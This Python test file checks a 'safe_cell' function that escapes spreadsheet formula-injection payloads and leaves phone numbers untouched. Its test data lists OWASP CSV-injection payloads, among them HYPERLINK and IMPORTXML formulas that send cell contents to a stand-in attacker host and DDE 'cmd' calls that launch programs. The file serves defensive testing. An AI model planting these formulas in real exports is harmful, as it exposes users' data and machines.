"""Formula protection for spreadsheet cells: the payloads of OWASP's "CSV Injection" page stay
text; phone numbers are left as typed."""

import pytest

from netpwa.formats.cells import safe_cell

# https://owasp.org/www-community/attacks/CSV_Injection (and the DDE payloads it cites).
OWASP_PAYLOADS = [
    "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"Error: please click\")",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+2\";=1+2",
    "=10+20+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1:A10)",
    "=IMPORTXML(CONCAT(\"http://evil.example?v=\", CONCATENATE(A2:E2)), \"//a/a10\")",
    "=IMAGE(\"https://evil.example/x.png\")",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+ -@",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_owasp_payloads_keep_their_protection(payload):
    """Anything that could be a formula is prefixed with an apostrophe, so it stays text."""
    if payload in ("-",):
        # A lone minus can't compute anything; it is a plain number character.
        assert safe_cell(payload) == payload
        return
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("phone", [
    "+46 70 123 45 67", "+1 (404) 555-0100", "-12.5", "(0)20 7946 0018", "+44.20.7946.0018",
])
def test_phone_numbers_are_written_as_typed(phone):
    """Digits, spaces and + - ( ) . can't run a formula: no apostrophe spoils the number."""
    assert safe_cell(phone) == phone


def test_other_values_pass_through():
    assert safe_cell("Ana Silva") == "Ana Silva"
    assert safe_cell(42) == 42
    assert safe_cell("") == ""
